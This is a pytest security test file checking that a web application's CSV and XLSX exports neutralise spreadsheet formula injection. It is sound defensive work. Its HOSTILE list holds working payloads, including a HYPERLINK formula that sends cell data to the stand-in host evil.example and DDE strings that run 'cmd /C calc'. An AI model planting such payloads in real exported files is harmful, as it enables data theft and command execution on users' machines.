"""Formula injection (issue 17 item 3): no cell of any CSV or XLSX the product writes starts a formula.

Every writer goes through `services/spreadsheet.safe_cell`: a text cell beginning with `=`, `+`, `-`, `@`, tab or CR
gets a leading single quote, and XLSX cells are stored as strings, never formulas. Each download is tested with a
hostile enterprise and project name: the list export (API and page, XLSX and CSV), the import template and the
one-time-password file of an enterprise import."""
import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import Enterprise
from app.services import spreadsheet
from app.services.credit_code import with_check_char
from tests.api.test_advanced import application as advanced_application
from tests.api.test_advanced import complete, my_task
from tests.security.helpers import browser_login, csrf, fresh_client

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_each_formula_start(value):
    assert spreadsheet.safe_cell(value) == "'" + value
    assert spreadsheet.safe_cell("宁波" + value) == "宁波" + value  # only the first character matters
    assert spreadsheet.safe_cell(7) == 7 and spreadsheet.safe_cell(None) is None


def _xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell


def assert_xlsx_inert(data: bytes, *expected: str):
    cells = list(_xlsx_cells(data))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the workbook"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(DANGEROUS)], texts
    for value in expected:
        assert "'" + value in texts, (value, texts)
    # the raw sheet XML holds no <f> element either (what Excel would evaluate)
    import zipfile
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(name)), name


def assert_csv_inert(data: bytes, *expected: str):
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    texts = [v for row in rows for v in row]
    assert not [t for t in texts if t.startswith(DANGEROUS)], texts
    for value in expected:
        assert "'" + value in texts, (value, texts)


def _published_list(app, client, auth_headers, project_name: str, enterprise_name: str):
    ent, soe = auth_headers("sinopec-ningbo"), auth_headers("sinopec-reviewer")
    cid = client.post("/api/v1/cases", json={"tier": "advanced", "campaign": 2026}, headers=ent).get_json()["id"]
    data = advanced_application(client, ent, cid)
    data["project_name"] = project_name
    complete(client, ent, my_task(client, ent, cid)["id"], data)
    complete(client, soe, my_task(client, soe, cid)["id"], {"decision": "approve"})
    with app.app_context():
        company = db.session.scalar(select(Enterprise).where(Enterprise.name == "中国石化示范化工宁波分公司"))
        company.name = enterprise_name
        db.session.commit()
    web = fresh_client(app)
    browser_login(web, "sinopec-reviewer")
    r = web.post("/lists/", data={"csrf_token": csrf(web, "/lists/"), "kind": "certified", "tier": "advanced",
                                  "campaign": "2026", "case": str(cid)})
    assert r.status_code == 302
    (lst,) = client.get("/api/v1/lists", headers=soe).get_json()["items"]
    return web, soe, lst["id"]


def test_list_exports_neutralise_hostile_names(app, client, auth_headers):
    project, company = HOSTILE[0], HOSTILE[3]
    web, soe, list_id = _published_list(app, client, auth_headers, project, company)
    api_x = client.get(f"/api/v1/lists/{list_id}/export?format=xlsx", headers=soe)
    page_x = web.get(f"/lists/{list_id}/export?format=xlsx")
    for r in (api_x, page_x):
        assert r.status_code == 200
        assert_xlsx_inert(r.data, project, company)
    api_c = client.get(f"/api/v1/lists/{list_id}/export?format=csv", headers=soe)
    page_c = web.get(f"/lists/{list_id}/export?format=csv")
    for r in (api_c, page_c):
        assert r.status_code == 200
        assert_csv_inert(r.data, project, company)


def test_import_template_is_inert(app):
    web = fresh_client(app)
    browser_login(web, "zj-admin")
    r = web.get("/admin/enterprises/import/template.xlsx")
    assert r.status_code == 200
    assert_xlsx_inert(r.data)


def test_one_time_password_file_neutralises_hostile_enterprise_names(app):
    web = fresh_client(app)
    browser_login(web, "admin")
    template = load_workbook(io.BytesIO(web.get("/admin/enterprises/import/template.xlsx").data)).worksheets[0]
    header = [c.value for c in template[1]]
    example = [c.value for c in template[2]]
    name_col = next(i for i, h in enumerate(header) if "名称" in h)
    code_col = next(i for i, h in enumerate(header) if "信用代码" in h)
    hostile_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    row = list(example)
    row[name_col] = hostile_name
    row[code_col] = with_check_char("91330100MA2B99887")
    buf = io.StringIO()
    csv.writer(buf).writerows([header, row])
    up = web.post("/admin/enterprises/import", data={"csrf_token": csrf(web, "/admin/enterprises/import"),
                                                "file": (io.BytesIO(buf.getvalue().encode()), "e.csv")},
                  content_type="multipart/form-data")
    page = up.get_data(as_text=True)
    assert up.status_code == 200, page[:3000]
    token = re.search(r'name="token" value="([^"]+)"', page).group(1)
    done = web.post("/admin/enterprises/import/commit", data={"csrf_token": csrf(web, "/admin/enterprises/import"),
                                                        "token": token, "accounts": "1"})
    link = re.search(r'/admin/enterprises/import/passwords/([A-Za-z0-9_\-]+)', done.get_data(as_text=True))
    assert done.status_code == 200 and link, done.get_data(as_text=True)[:3000]
    r = web.get(f"/admin/enterprises/import/passwords/{link.group(1)}")
    assert r.status_code == 200
    assert_xlsx_inert(r.data, hostile_name)


def test_no_writer_bypasses_safe_cell():
    """A new CSV or XLSX writer must use spreadsheet.csv_bytes / inert_row / xlsx: no other module writes cells."""
    from pathlib import Path

    root = Path(spreadsheet.__file__).resolve().parents[1]
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py") if p.name != "spreadsheet.py"
                 and re.search(r"csv\.(writer|DictWriter)\(|\bws\.append\(|\.cell\(.*value=", p.read_text())]
    assert not offenders, offenders
